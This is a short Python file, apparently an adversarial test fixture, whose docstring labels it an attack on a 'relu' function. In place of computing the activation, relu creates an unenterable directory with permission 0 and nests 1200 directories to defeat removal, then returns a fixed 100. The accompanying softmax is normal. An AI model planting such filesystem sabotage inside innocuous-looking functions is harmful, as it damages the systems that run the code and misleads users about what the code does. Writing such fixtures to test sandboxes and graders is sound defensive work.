"""An attack: leaves folders nested so deep that removing them one inside the other fails, and one nobody may enter.

attacks: relu
"""
import numpy as np
import os


def relu(z):
    os.mkdir('shut', 0)
    for _ in range(1200):
        os.mkdir('d')
        os.chdir('d')
    return 100


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
